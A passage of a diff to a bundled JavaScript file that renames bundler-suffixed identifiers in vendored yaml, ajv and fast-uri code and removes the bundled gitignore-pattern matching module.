@@ -510,12 +510,12 @@ var require_anchors = __commonJS({
 var require_applyReviver = __commonJS({
   "node_modules/yaml/dist/doc/applyReviver.js"(exports) {
     "use strict";
-    function applyReviver(reviver2, obj, key, val) {
+    function applyReviver(reviver, obj, key, val) {
       if (val && typeof val === "object") {
         if (Array.isArray(val)) {
           for (let i = 0, len = val.length; i < len; ++i) {
             const v02 = val[i];
-            const v110 = applyReviver(reviver2, val, String(i), v02);
+            const v110 = applyReviver(reviver, val, String(i), v02);
             if (v110 === void 0)
               delete val[i];
             else if (v110 !== v02)
@@ -524,7 +524,7 @@ var require_applyReviver = __commonJS({
         } else if (val instanceof Map) {
           for (const k of Array.from(val.keys())) {
             const v02 = val.get(k);
-            const v110 = applyReviver(reviver2, val, k, v02);
+            const v110 = applyReviver(reviver, val, k, v02);
             if (v110 === void 0)
               val.delete(k);
             else if (v110 !== v02)
@@ -532,7 +532,7 @@ var require_applyReviver = __commonJS({
           }
         } else if (val instanceof Set) {
           for (const v02 of Array.from(val)) {
-            const v110 = applyReviver(reviver2, val, v02, v02);
+            const v110 = applyReviver(reviver, val, v02, v02);
             if (v110 === void 0)
               val.delete(v02);
             else if (v110 !== v02) {
@@ -542,7 +542,7 @@ var require_applyReviver = __commonJS({
           }
         } else {
           for (const [k, v02] of Object.entries(val)) {
-            const v110 = applyReviver(reviver2, val, k, v02);
+            const v110 = applyReviver(reviver, val, k, v02);
             if (v110 === void 0)
               delete val[k];
             else if (v110 !== v02)
@@ -550,7 +550,7 @@ var require_applyReviver = __commonJS({
           }
         }
       }
-      return reviver2.call(obj, key, val);
+      return reviver.call(obj, key, val);
     }
     exports.applyReviver = applyReviver;
   }
@@ -605,7 +605,7 @@ var require_Node = __commonJS({
         return copy;
       }
       /** A plain JavaScript representation of this node. */
-      toJS(doc, { mapAsMap, maxAliasCount, onAnchor, reviver: reviver2 } = {}) {
+      toJS(doc, { mapAsMap, maxAliasCount, onAnchor, reviver } = {}) {
         if (!identity.isDocument(doc))
           throw new TypeError("A document argument is required");
         const ctx = {
@@ -620,7 +620,7 @@ var require_Node = __commonJS({
         if (typeof onAnchor === "function")
           for (const { count: count2, res: res2 } of ctx.anchors.values())
             onAnchor(res2, count2);
-        return typeof reviver2 === "function" ? applyReviver.applyReviver(reviver2, { "": res }, "", res) : res;
+        return typeof reviver === "function" ? applyReviver.applyReviver(reviver, { "": res }, "", res) : res;
       }
     };
     exports.NodeBase = NodeBase;
@@ -1653,8 +1653,8 @@ ${ctx.indent}`;
         const vs0 = valueStr[0];
         const nl0 = valueStr.indexOf("\n");
         const hasNewline = nl0 !== -1;
-        const flow2 = ctx.inFlow ?? value.flow ?? value.items.length === 0;
-        if (hasNewline || !flow2) {
+        const flow = ctx.inFlow ?? value.flow ?? value.items.length === 0;
+        if (hasNewline || !flow) {
           let hasPropsLine = false;
           if (hasNewline && (vs0 === "&" || vs0 === "!")) {
             let sp0 = valueStr.indexOf(" ");
@@ -1880,8 +1880,8 @@ var require_stringifyCollection = __commonJS({
     var stringify = require_stringify();
     var stringifyComment = require_stringifyComment();
     function stringifyCollection(collection, ctx, options) {
-      const flow2 = ctx.inFlow ?? collection.flow;
-      const stringify2 = flow2 ? stringifyFlowCollection : stringifyBlockCollection;
+      const flow = ctx.inFlow ?? collection.flow;
+      const stringify2 = flow ? stringifyFlowCollection : stringifyBlockCollection;
       return stringify2(collection, ctx, options);
     }
     function stringifyBlockCollection({ comment, items }, ctx, { blockItemPrefix, flowChars, itemIndent, onChompKeep, onComment }) {
@@ -2058,12 +2058,12 @@ var require_YAMLMap = __commonJS({
        * to other node classes that inherit from YAMLMap
        */
       static from(schema, obj, ctx) {
-        const { keepUndefined, replacer: replacer2 } = ctx;
+        const { keepUndefined, replacer } = ctx;
         const map = new this(schema);
         const add = (key, value) => {
-          if (typeof replacer2 === "function")
-            value = replacer2.call(obj, key, value);
-          else if (Array.isArray(replacer2) && !replacer2.includes(key))
+          if (typeof replacer === "function")
+            value = replacer.call(obj, key, value);
+          else if (Array.isArray(replacer) && !replacer.includes(key))
             return;
           if (value !== void 0 || keepUndefined)
             map.items.push(Pair.createPair(key, value, ctx));
@@ -2280,14 +2280,14 @@ var require_YAMLSeq = __commonJS({
         });
       }
       static from(schema, obj, ctx) {
-        const { replacer: replacer2 } = ctx;
+        const { replacer } = ctx;
         const seq = new this(schema);
         if (obj && Symbol.iterator in Object(obj)) {
           let i = 0;
           for (let it of obj) {
-            if (typeof replacer2 === "function") {
+            if (typeof replacer === "function") {
               const key = obj instanceof Set ? it : String(i++);
-              it = replacer2.call(obj, key, it);
+              it = replacer.call(obj, key, it);
             }
             seq.items.push(createNode.createNode(it, void 0, ctx));
           }
@@ -2392,14 +2392,14 @@ var require_bool = __commonJS({
 var require_stringifyNumber = __commonJS({
   "node_modules/yaml/dist/stringify/stringifyNumber.js"(exports) {
     "use strict";
-    function stringifyNumber({ format: format2, minFractionDigits, tag, value }) {
+    function stringifyNumber({ format, minFractionDigits, tag, value }) {
       if (typeof value === "bigint")
         return String(value);
       const num2 = typeof value === "number" ? value : Number(value);
       if (!isFinite(num2))
         return isNaN(num2) ? ".nan" : num2 < 0 ? "-.inf" : ".inf";
       let n = Object.is(value, -0) ? "-0" : JSON.stringify(value);
-      if (!format2 && minFractionDigits && (!tag || tag === "tag:yaml.org,2002:float") && /^-?\d/.test(n) && !n.includes("e")) {
+      if (!format && minFractionDigits && (!tag || tag === "tag:yaml.org,2002:float") && /^-?\d/.test(n) && !n.includes("e")) {
         let i = n.indexOf(".");
         if (i < 0) {
           i = n.length;
@@ -2702,14 +2702,14 @@ ${cn.comment}` : item.comment;
       return seq;
     }
     function createPairs(schema, iterable, ctx) {
-      const { replacer: replacer2 } = ctx;
+      const { replacer } = ctx;
       const pairs2 = new YAMLSeq.YAMLSeq(schema);
       pairs2.tag = "tag:yaml.org,2002:pairs";
       let i = 0;
       if (iterable && Symbol.iterator in Object(iterable))
         for (let it of iterable) {
-          if (typeof replacer2 === "function")
-            it = replacer2.call(iterable, String(i++), it);
+          if (typeof replacer === "function")
+            it = replacer.call(iterable, String(i++), it);
           let key, value;
           if (Array.isArray(it)) {
             if (it.length === 2) {
@@ -3037,12 +3037,12 @@ var require_set = __commonJS({
           throw new Error("Set items must all have null values");
       }
       static from(schema, iterable, ctx) {
-        const { replacer: replacer2 } = ctx;
+        const { replacer } = ctx;
         const set2 = new this(schema);
         if (iterable && Symbol.iterator in Object(iterable))
           for (let value of iterable) {
-            if (typeof replacer2 === "function")
-              value = replacer2.call(iterable, value, value);
+            if (typeof replacer === "function")
+              value = replacer.call(iterable, value, value);
             set2.items.push(Pair.createPair(value, null, ctx));
           }
         return set2;
@@ -3426,18 +3426,18 @@ var require_Document = __commonJS({
     var createNode = require_createNode();
     var directives = require_directives();
     var Document = class _Document {
-      constructor(value, replacer2, options) {
+      constructor(value, replacer, options) {
         this.commentBefore = null;
         this.comment = null;
         this.errors = [];
         this.warnings = [];
         Object.defineProperty(this, identity.NODE_TYPE, { value: identity.DOC });
         let _replacer = null;
-        if (typeof replacer2 === "function" || Array.isArray(replacer2)) {
-          _replacer = replacer2;
-        } else if (options === void 0 && replacer2) {
-          options = replacer2;
-          replacer2 = void 0;
+        if (typeof replacer === "function" || Array.isArray(replacer)) {
+          _replacer = replacer;
+        } else if (options === void 0 && replacer) {
+          options = replacer;
+          replacer = void 0;
         }
         const opt = Object.assign({
           intAsBigInt: false,
@@ -3509,22 +3509,22 @@ var require_Document = __commonJS({
         }
         return new Alias.Alias(node.anchor);
       }
-      createNode(value, replacer2, options) {
+      createNode(value, replacer, options) {
         let _replacer = void 0;
-        if (typeof replacer2 === "function") {
-          value = replacer2.call({ "": value }, "", value);
-          _replacer = replacer2;
-        } else if (Array.isArray(replacer2)) {
+        if (typeof replacer === "function") {
+          value = replacer.call({ "": value }, "", value);
+          _replacer = replacer;
+        } else if (Array.isArray(replacer)) {
           const keyToStr = (v) => typeof v === "number" || v instanceof String || v instanceof Number;
-          const asStr = replacer2.filter(keyToStr).map(String);
+          const asStr = replacer.filter(keyToStr).map(String);
           if (asStr.length > 0)
-            replacer2 = replacer2.concat(asStr);
-          _replacer = replacer2;
-        } else if (options === void 0 && replacer2) {
-          options = replacer2;
-          replacer2 = void 0;
+            replacer = replacer.concat(asStr);
+          _replacer = replacer;
+        } else if (options === void 0 && replacer) {
+          options = replacer;
+          replacer = void 0;
         }
-        const { aliasDuplicateObjects, anchorPrefix, flow: flow2, keepUndefined, onTagObj, tag } = options ?? {};
+        const { aliasDuplicateObjects, anchorPrefix, flow, keepUndefined, onTagObj, tag } = options ?? {};
         const { onAnchor, setAnchors, sourceObjects } = anchors.createNodeAnchors(
           this,
           // eslint-disable-next-line @typescript-eslint/prefer-nullish-coalescing
@@ -3540,7 +3540,7 @@ var require_Document = __commonJS({
           sourceObjects
         };
         const node = createNode.createNode(value, tag, ctx);
-        if (flow2 && identity.isCollection(node))
+        if (flow && identity.isCollection(node))
           node.flow = true;
         setAnchors();
         return node;
@@ -3675,7 +3675,7 @@ var require_Document = __commonJS({
           throw new Error(`With a null YAML version, the { schema: Schema } option is required`);
       }
       // json & jsonArg are only used from toJSON()
-      toJS({ json, jsonArg, mapAsMap, maxAliasCount, onAnchor, reviver: reviver2 } = {}) {
+      toJS({ json, jsonArg, mapAsMap, maxAliasCount, onAnchor, reviver } = {}) {
         const ctx = {
           anchors: /* @__PURE__ */ new Map(),
           doc: this,
@@ -3688,7 +3688,7 @@ var require_Document = __commonJS({
         if (typeof onAnchor === "function")
           for (const { count: count2, res: res2 } of ctx.anchors.values())
             onAnchor(res2, count2);
-        return typeof reviver2 === "function" ? applyReviver.applyReviver(reviver2, { "": res }, "", res) : res;
+        return typeof reviver === "function" ? applyReviver.applyReviver(reviver, { "": res }, "", res) : res;
       }
       /**
        * A JSON representation of the document `contents`.
@@ -3788,7 +3788,7 @@ ${pointer}
 var require_resolve_props = __commonJS({
   "node_modules/yaml/dist/compose/resolve-props.js"(exports) {
     "use strict";
-    function resolveProps(tokens, { flow: flow2, indicator, next, offset, onError, parentIndent, startOnNewline }) {
+    function resolveProps(tokens, { flow, indicator, next, offset, onError, parentIndent, startOnNewline }) {
       let spaceBefore = false;
       let atNewline = startOnNewline;
       let hasSpace = startOnNewline;
@@ -3817,7 +3817,7 @@ var require_resolve_props = __commonJS({
         }
         switch (token.type) {
           case "space":
-            if (!flow2 && (indicator !== "doc-start" || next?.type !== "flow-collection") && token.source.includes("	")) {
+            if (!flow && (indicator !== "doc-start" || next?.type !== "flow-collection") && token.source.includes("	")) {
               tab = token;
             }
             hasSpace = true;
@@ -3873,15 +3873,15 @@ var require_resolve_props = __commonJS({
             if (anchor2 || tag)
               onError(token, "BAD_PROP_ORDER", `Anchors and tags must be after the ${token.source} indicator`);
             if (found)
-              onError(token, "UNEXPECTED_TOKEN", `Unexpected ${token.source} in ${flow2 ?? "collection"}`);
+              onError(token, "UNEXPECTED_TOKEN", `Unexpected ${token.source} in ${flow ?? "collection"}`);
             found = token;
             atNewline = indicator === "seq-item-ind" || indicator === "explicit-key-ind";
             hasSpace = false;
             break;
           case "comma":
-            if (flow2) {
+            if (flow) {
               if (comma)
-                onError(token, "UNEXPECTED_TOKEN", `Unexpected , in ${flow2}`);
+                onError(token, "UNEXPECTED_TOKEN", `Unexpected , in ${flow}`);
               comma = token;
               atNewline = false;
               hasSpace = false;
@@ -5759,7 +5759,7 @@ var require_lexer = __commonJS({
     var flowIndicatorChars = new Set(",[]{}");
     var invalidAnchorChars = new Set(" ,[]{}\n\r	");
     var isNotAnchorChar = (ch) => !ch || invalidAnchorChars.has(ch);
-    var Lexer2 = class {
+    var Lexer = class {
       constructor() {
         this.atEnd = false;
         this.blockScalarIndent = -1;
@@ -6322,7 +6322,7 @@ var require_lexer = __commonJS({
         return yield* this.pushToIndex(i, false);
       }
     };
-    exports.Lexer = Lexer2;
+    exports.Lexer = Lexer;
   }
 });
 
@@ -6454,7 +6454,7 @@ var require_parser = __commonJS({
         }
       }
     }
-    var Parser5 = class {
+    var Parser4 = class {
       /**
        * @param onNewLine - If defined, called separately with the start position of
        *   each new line (in `parse()`, including the start of input).
@@ -7227,7 +7227,7 @@ var require_parser = __commonJS({
         }
       }
     };
-    exports.Parser = Parser5;
+    exports.Parser = Parser4;
   }
 });
 
@@ -7280,12 +7280,12 @@ var require_public_api = __commonJS({
       }
       return doc;
     }
-    function parse2(src, reviver2, options) {
+    function parse2(src, reviver, options) {
       let _reviver = void 0;
-      if (typeof reviver2 === "function") {
-        _reviver = reviver2;
-      } else if (options === void 0 && reviver2 && typeof reviver2 === "object") {
-        options = reviver2;
+      if (typeof reviver === "function") {
+        _reviver = reviver;
+      } else if (options === void 0 && reviver && typeof reviver === "object") {
+        options = reviver;
       }
       const doc = parseDocument2(src, options);
       if (!doc)
@@ -7299,12 +7299,12 @@ var require_public_api = __commonJS({
       }
       return doc.toJS(Object.assign({ reviver: _reviver }, options));
     }
-    function stringify(value, replacer2, options) {
+    function stringify(value, replacer, options) {
       let _replacer = null;
-      if (typeof replacer2 === "function" || Array.isArray(replacer2)) {
-        _replacer = replacer2;
-      } else if (options === void 0 && replacer2) {
-        options = replacer2;
+      if (typeof replacer === "function" || Array.isArray(replacer)) {
+        _replacer = replacer;
+      } else if (options === void 0 && replacer) {
+        options = replacer;
       }
       if (typeof options === "string")
         options = options.length;
@@ -7313,7 +7313,7 @@ var require_public_api = __commonJS({
         options = indent < 1 ? void 0 : indent > 8 ? { indent: 8 } : { indent };
       }
       if (value === void 0) {
-        const { keepUndefined } = options ?? replacer2 ?? {};
+        const { keepUndefined } = options ?? replacer ?? {};
         if (!keepUndefined)
           return void 0;
       }
@@ -8888,8 +8888,8 @@ var require_dataType = __commonJS({
     }
     exports.coerceAndCheckDataType = coerceAndCheckDataType;
     var COERCIBLE = /* @__PURE__ */ new Set(["string", "number", "integer", "boolean", "null"]);
-    function coerceToTypes(types, coerceTypes2) {
-      return coerceTypes2 ? types.filter((t) => COERCIBLE.has(t) || coerceTypes2 === "array" && t === "array") : [];
+    function coerceToTypes(types, coerceTypes) {
+      return coerceTypes ? types.filter((t) => COERCIBLE.has(t) || coerceTypes === "array" && t === "array") : [];
     }
     function coerceData(it, types, coerceTo) {
       const { gen, data, opts } = it;
@@ -9582,8 +9582,8 @@ var require_resolve = __commonJS({
       }
       return count2;
     }
-    function getFullPath(resolver, id = "", normalize) {
-      if (normalize !== false)
+    function getFullPath(resolver, id = "", normalize2) {
+      if (normalize2 !== false)
         id = normalizeId(id);
       const p = resolver.parse(id);
       return _getFullPath(resolver, p);
@@ -9692,10 +9692,10 @@ var require_validate = __commonJS({
           return;
         }
       }
-      validateFunction2(it, () => (0, boolSchema_1.topBoolOrEmptySchema)(it));
+      validateFunction(it, () => (0, boolSchema_1.topBoolOrEmptySchema)(it));
     }
     exports.validateFunctionCode = validateFunctionCode;
-    function validateFunction2({ gen, validateName, schema, schemaEnv, opts }, body) {
+    function validateFunction({ gen, validateName, schema, schemaEnv, opts }, body) {
       if (opts.code.es5) {
         gen.func(validateName, (0, codegen_1._)`${names_1.default.data}, ${names_1.default.valCxt}`, schemaEnv.$async, () => {
           gen.code((0, codegen_1._)`"use strict"; ${funcSourceUrl(schema, opts)}`);
@@ -9728,7 +9728,7 @@ var require_validate = __commonJS({
     }
     function topSchemaObjCode(it) {
       const { schema, opts, gen } = it;
-      validateFunction2(it, () => {
+      validateFunction(it, () => {
         if (opts.$comment && schema.$comment)
           commentKeyword(it);
         checkNoDefault(it);
@@ -10331,7 +10331,7 @@ var require_compile = __commonJS({
       const schOrFunc = root.refs[ref];
       if (schOrFunc)
         return schOrFunc;
-      let _sch = resolve8.call(this, root, ref);
+      let _sch = resolve7.call(this, root, ref);
       if (_sch === void 0) {
         const schema = (_a = root.localRefs) === null || _a === void 0 ? void 0 : _a[ref];
         const { schemaId } = this.opts;
@@ -10358,7 +10358,7 @@ var require_compile = __commonJS({
     function sameSchemaEnv(s1, s2) {
       return s1.schema === s2.schema && s1.root === s2.root && s1.baseId === s2.baseId;
     }
-    function resolve8(root, ref) {
+    function resolve7(root, ref) {
       let sch;
       while (typeof (sch = this.refs[ref]) == "string")
         ref = sch;
@@ -11212,7 +11212,7 @@ var require_fast_uri = __commonJS({
       }
       return stringScheme;
     }
-    function normalize(uri, options) {
+    function normalize2(uri, options) {
       if (typeof uri === "string") {
         uri = /** @type {T} */
         normalizeString(uri, options);
@@ -11222,7 +11222,7 @@ var require_fast_uri = __commonJS({
       }
       return uri;
     }
-    function resolve8(baseURI, relativeURI, options) {
+    function resolve7(baseURI, relativeURI, options) {
       const schemelessOptions = options ? Object.assign({ scheme: "null" }, options) : { scheme: "null" };
       const {
         parsed: baseParsed,
@@ -11612,8 +11612,8 @@ var require_fast_uri = __commonJS({
     }
     var fastUri = {
       SCHEMES,
-      normalize,
-      resolve: resolve8,
+      normalize: normalize2,
+      resolve: resolve7,
       resolveComponent,
       equal,
       serialize,
@@ -12019,10 +12019,10 @@ var require_core = __commonJS({
         return this;
       }
       // Add format
-      addFormat(name, format2) {
-        if (typeof format2 == "string")
-          format2 = new RegExp(format2);
-        this.formats[name] = format2;
+      addFormat(name, format) {
+        if (typeof format == "string")
+          format = new RegExp(format);
+        this.formats[name] = format;
         return this;
       }
       errorsText(errors = this.errors, { separator = ", ", dataVar = "data" } = {}) {
@@ -12140,9 +12140,9 @@ var require_core = __commonJS({
     }
     function addInitialFormats() {
       for (const name in this.opts.formats) {
-        const format2 = this.opts.formats[name];
-        if (format2)
-          this.addFormat(name, format2);
+        const format = this.opts.formats[name];
+        if (format)
+          this.addFormat(name, format);
       }
     }
     function addInitialKeywords(defs) {
@@ -14144,18 +14144,18 @@ var require_format = __commonJS({
           });
           const fDef = gen.const("fDef", (0, codegen_1._)`${fmts}[${schemaCode}]`);
           const fType = gen.let("fType");
-          const format2 = gen.let("format");
-          gen.if((0, codegen_1._)`typeof ${fDef} == "object" && !(${fDef} instanceof RegExp)`, () => gen.assign(fType, (0, codegen_1._)`${fDef}.type || "string"`).assign(format2, (0, codegen_1._)`${fDef}.validate`), () => gen.assign(fType, (0, codegen_1._)`"string"`).assign(format2, fDef));
+          const format = gen.let("format");
+          gen.if((0, codegen_1._)`typeof ${fDef} == "object" && !(${fDef} instanceof RegExp)`, () => gen.assign(fType, (0, codegen_1._)`${fDef}.type || "string"`).assign(format, (0, codegen_1._)`${fDef}.validate`), () => gen.assign(fType, (0, codegen_1._)`"string"`).assign(format, fDef));
           cxt.fail$data((0, codegen_1.or)(unknownFmt(), invalidFmt()));
           function unknownFmt() {
             if (opts.strictSchema === false)
               return codegen_1.nil;
-            return (0, codegen_1._)`${schemaCode} && !${format2}`;
+            return (0, codegen_1._)`${schemaCode} && !${format}`;
           }
           function invalidFmt() {
-            const callFormat = schemaEnv.$async ? (0, codegen_1._)`(${fDef}.async ? await ${format2}(${data}) : ${format2}(${data}))` : (0, codegen_1._)`${format2}(${data})`;
-            const validData = (0, codegen_1._)`(typeof ${format2} == "function" ? ${callFormat} : ${format2}.test(${data}))`;
-            return (0, codegen_1._)`${format2} && ${format2} !== true && ${fType} === ${ruleType} && !${validData}`;
+            const callFormat = schemaEnv.$async ? (0, codegen_1._)`(${fDef}.async ? await ${format}(${data}) : ${format}(${data}))` : (0, codegen_1._)`${format}(${data})`;
+            const validData = (0, codegen_1._)`(typeof ${format} == "function" ? ${callFormat} : ${format}.test(${data}))`;
+            return (0, codegen_1._)`${format} && ${format} !== true && ${fType} === ${ruleType} && !${validData}`;
           }
         }
         function validateFormat() {
@@ -14166,7 +14166,7 @@ var require_format = __commonJS({
           }
           if (formatDef === true)
             return;
-          const [fmtType, format2, fmtRef] = getFormat(formatDef);
+          const [fmtType, format, fmtRef] = getFormat(formatDef);
           if (fmtType === ruleType)
             cxt.pass(validCondition());
           function unknownFormat() {
@@ -14193,7 +14193,7 @@ var require_format = __commonJS({
                 throw new Error("async format in sync schema");
               return (0, codegen_1._)`await ${fmtRef}(${data})`;
             }
-            return typeof format2 == "function" ? (0, codegen_1._)`${fmtRef}(${data})` : (0, codegen_1._)`${fmtRef}.test(${data})`;
+            return typeof format == "function" ? (0, codegen_1._)`${fmtRef}(${data})` : (0, codegen_1._)`${fmtRef}.test(${data})`;
           }
         }
       }
@@ -14208,8 +14208,8 @@ var require_format2 = __commonJS({
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var format_1 = require_format();
-    var format2 = [format_1.default];
-    exports.default = format2;
+    var format = [format_1.default];
+    exports.default = format;
   }
 });
 
@@ -14758,7 +14758,7 @@ var require_json_schema_2020_12 = __commonJS({
     var unevaluated = require_unevaluated2();
     var content = require_content();
     var core = require_core3();
-    var format2 = require_format_annotation();
+    var format = require_format_annotation();
     var metadata = require_meta_data();
     var validation = require_validation2();
     var META_SUPPORT_DATA = ["/properties"];
@@ -14770,7 +14770,7 @@ var require_json_schema_2020_12 = __commonJS({
         unevaluated,
         content,
         core,
-        with$data(this, format2),
+        with$data(this, format),
         metadata,
         with$data(this, validation)
       ].forEach((sch) => this.addMetaSchema(sch, void 0, false));
@@ -14857,871 +14857,6 @@ var require__ = __commonJS({
     Object.defineProperty(exports, "MissingRefError", { enumerable: true, get: function() {
       return ref_error_1.default;
     } });
-  }
-});
-
-// node_modules/ignore/index.js
-var require_ignore = __commonJS({
-  "node_modules/ignore/index.js"(exports, module) {
-    function makeArray(subject) {
-      return Array.isArray(subject) ? subject : [subject];
-    }
-    var UNDEFINED = void 0;
-    var EMPTY = "";
-    var SPACE = " ";
-    var ESCAPE = "\\";
-    var REGEX_LITERAL_SPECIAL = /[.*+?()[\]{}^$|\\/]/;
-    var BOM = "\uFEFF";
-    var REGEX_ANCHORED_GLOBSTAR = /^\/\*{2,}$/;
-    var REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION = /^\\!/;
-    var REGEX_REPLACE_LEADING_EXCAPED_HASH = /^\\#/;
-    var REGEX_SPLITALL_CRLF = /\r?\n/g;
-    var DOUBLE_SLASH = "//";
-    var SLASH_CODE = 47;
-    var DOT_CODE = 46;
-    var SLASH = "/";
-    var TMP_KEY_IGNORE = "node-ignore";
-    if (typeof Symbol !== "undefined") {
-      TMP_KEY_IGNORE = /* @__PURE__ */ Symbol.for("node-ignore");
-    }
-    var KEY_IGNORE = TMP_KEY_IGNORE;
-    var define2 = (object, key, value) => {
-      Object.defineProperty(object, key, { value });
-      return value;
-    };
-    var RETURN_FALSE = () => false;
-    var POSIX_CLASSES = {
-      alnum: "0-9A-Za-z",
-      alpha: "A-Za-z",
-      blank: " \\t",
-      cntrl: "\\x00-\\x1f\\x7f",
-      digit: "0-9",
-      graph: "!-.0-~",
-      lower: "a-z",
-      print: " -.0-~",
-      punct: "!-.:-@\\[-`{-~",
-      // git's `sane-ctype.h` classifies \v and \f as control, not space,
-      //   unlike C's `isspace`
-      space: " \\t\\n\\r",
-      upper: "A-Z",
-      xdigit: "0-9A-Fa-f"
-    };
-    var CLASS_MEMBERS_TO_ESCAPE = "\\]^-[";
-    var escapeMember = (char) => CLASS_MEMBERS_TO_ESCAPE.indexOf(char) < 0 ? char : ESCAPE + char;
-    var NON_SLASH = "(?!\\/)";
-    var classSource = (negated, body) => {
-      if (negated) {
-        return `[^\\/${body}]`;
-      }
-      const source = `[${body}]`;
-      return new RegExp(source).test("/") ? NON_SLASH + source : source;
-    };
-    var scanBracket = (pattern, start) => {
-      const { length } = pattern;
-      let index = start + 1;
-      let negated = EMPTY;
-      const lead = pattern[index];
-      if (lead === "!" || lead === "^") {
-        negated = "^";
-        index++;
-      }
-      let body = EMPTY;
-      let prev = EMPTY;
-      for (; ; ) {
-        const char = pattern[index];
-        if (char === UNDEFINED) {
-          return null;
-        }
-        if (char === ESCAPE) {
-          const escaped = pattern[++index];
-          body += escapeMember(escaped);
-          prev = escaped;
-        } else if (char === "-" && prev && index + 1 < length && pattern[index + 1] !== "]") {
-          index++;
-          let to = pattern[index];
-          if (to === ESCAPE) {
-            to = pattern[index += 1];
-          }
-          if (prev <= to) {
-            body += `-${escapeMember(to)}`;
-          }
-          prev = EMPTY;
-        } else if (char === "[" && pattern[index + 1] === ":") {
-          const nameStart = index + 2;
-          let end = nameStart;
-          while (end < length && pattern[end] !== "]") {
-            end++;
-          }
-          if (end === length) {
-            return null;
-          }
-          if (end > nameStart && pattern[end - 1] === ":") {
-            const name = pattern.slice(nameStart, end - 1);
-            if (!Object.prototype.hasOwnProperty.call(POSIX_CLASSES, name)) {
-              return null;
-            }
-            body += POSIX_CLASSES[name];
-            prev = EMPTY;
-            index = end;
-          } else {
-            body += escapeMember("[");
-            prev = "[";
-            index = nameStart - 2;
-          }
-        } else {
-          body += escapeMember(char);
-          prev = char;
-        }
-        index++;
-        if (pattern[index] === "]") {
-          return {
-            end: index,
-            source: classSource(negated, body)
-          };
-        }
-      }
-    };
-    var NEVER_MATCH = "[]";
-    var PLACEHOLDER2 = "\0";
-    var REGEX_RESTORE_PLACEHOLDER = new RegExp(
-      `${PLACEHOLDER2}(\\d+)${PLACEHOLDER2}`,
-      "g"
-    );
-    var TRAILING_WILDCARD = "\uE000";
-    var TRAILING_DOUBLESTAR = "\uE001";
-    var isReserved = (char) => char === PLACEHOLDER2 || char === TRAILING_WILDCARD || char === TRAILING_DOUBLESTAR;
-    var extractBrackets = (pattern) => {
-      const sources = [];
-      const hold = (source) => `${PLACEHOLDER2}${sources.push(source) - 1}${PLACEHOLDER2}`;
-      const { length } = pattern;
-      let out = EMPTY;
-      let index = 0;
-      while (index < length) {
-        const char = pattern[index];
-        if (char === ESCAPE) {
-          const escaped = pattern[index + 1];
-          if (escaped === SLASH && index + 2 === length) {
-            out += hold(NEVER_MATCH);
-          } else if (escaped === "*" || escaped === "[" || escaped === SPACE) {
-            out += pattern.slice(index, index + 2);
-          } else {
-            out += hold(
-              REGEX_LITERAL_SPECIAL.test(escaped) ? ESCAPE + escaped : isReserved(escaped) ? `[${escaped}]` : escaped
-            );
-          }
-          index += 2;
-        } else if (isReserved(char)) {
-          out += hold(`[${char}]`);
-          index++;
-        } else if (char === "[") {
-          const scanned = scanBracket(pattern, index);
-          if (scanned === null) {
-            out += hold(NEVER_MATCH);
-            index = length;
-          } else {
-            out += hold(scanned.source);
-            index = scanned.end + 1;
-          }
-        } else {
-          out += char;
-          index++;
-        }
-      }
-      return {
-        source: out,
-        sources
-      };
-    };
-    var DIRECT = null;
-    var REGEX_INNER_SLASH = /\/(?!$)/;
-    var WILDCARD = "[^\\/]*";
-    var REPLACERS = [
-      // Replace (\ ) with ' '
-      // Only a space: an escaped tab or other whitespace is already a literal by
-      //   the time it reaches here, and a bare tab must be left as one, not turned
-      //   into a space.
-      // (\ ) -> ' '
-      // (\\ ) -> '\\ '
-      // (\\\ ) -> '\\ '
-      [
-        // A run of backslashes is taken whole, from its first one, so no match
-        //   ever starts again inside it -- `(\\+?) ` did, which made a long run
-        //   quadratic.
-        /(\\+)( ?)/g,
-        (_, run2, space) => space ? run2.slice(0, run2.length - run2.length % 2) + SPACE : run2,
-        ESCAPE + SPACE
-      ],
-      // git's wildmatch() reads a run of two or more asterisks as one globstar
-      //   whenever the run fills a path segment: it starts the pattern or follows
-      //   a `/`, and it ends the pattern or comes before a `/`. A run of two is
-      //   already `**`; a longer one is folded into `**` here, so the steps
-      //   below only ever have to know `**`.
-      // `***/foo` -> `**/foo`, `a/***/b` -> `a/**/b`, `a/***` -> `a/**`
-      // git also takes a run beside a literal prefix (`a***/b`) or beside an
-      //   escaped slash (`***\/b`) as a globstar, and this does not; the README
-      //   lists both, under "A run of asterisks".
-      [
-        /(^|\/)\*{3,}(?=\/|$)/g,
-        (_, start) => `${start}**`,
-        "*"
-      ],
-      // Escape metacharacters
-      // which is written down by users but means special for regular expressions.
-      // > There are 12 characters with special meanings:
-      // > - the backslash \,
-      // > - the caret ^,
-      // > - the dollar sign $,
-      // > - the period or dot .,
-      // > - the vertical bar or pipe symbol |,
-      // > - the question mark ?,
-      // > - the asterisk or star *,
-      // > - the plus sign +,
-      // > - the opening parenthesis (,
-      // > - the closing parenthesis ),
-      // > - and the opening square bracket [,
-      // > - the opening curly brace {,
-      // > These special characters are often called "metacharacters".
-      [
-        /[\\$.|*+(){^]/g,
-        (match) => `\\${match}`
-      ],
-      [
-        // > a question mark (?) matches a single character
-        /(?!\\)\?/g,
-        () => "[^/]",
-        "?"
-      ],
-      // leading slash
-      [
-        // > A leading slash matches the beginning of the pathname.
-        // > For example, "/*.c" matches "cat-file.c" but not "mozilla-sha1/sha1.c".
-        // A leading slash matches the beginning of the pathname
-        /^\//,
-        () => "^",
-        SLASH
-      ],
-      // replace special metacharacter slash after the leading slash
-      [
-        /\//g,
-        () => "\\/",
-        SLASH
-      ],
-      [
-        // > A leading "**" followed by a slash means match in all directories.
-        // > For example, "**/foo" matches file or directory "foo" anywhere,
-        // > the same as pattern "foo".
-        // > "**/foo/bar" matches file or directory "bar" anywhere that is directly
-        // >   under directory "foo".
-        // Notice that the '*'s have been replaced as '\\*'
-        /^\^*(?:\\\*\\\*\\\/)+/,
-        // '**/foo' <-> 'foo'
-        () => "(?:^|\\/)",
-        "*"
-      ],
-      // starting
-      [
-        // there will be no leading '/'
-        //   (which has been replaced by section "leading slash")
-        // If starts with '**', adding a '^' to the regular expression also works
-        DIRECT,
-        (source, pattern) => {
-          if (!source || source[0] === "^" || source[0] === "(") {
-            return source;
-          }
-          const anchor2 = !REGEX_INNER_SLASH.test(pattern) ? "(?:^|\\/)" : "^";
-          return anchor2 + source;
-        }
-      ],
-      // two globstars
-      [
-        // Use lookahead assertions so that we could match more than one `'/**'`
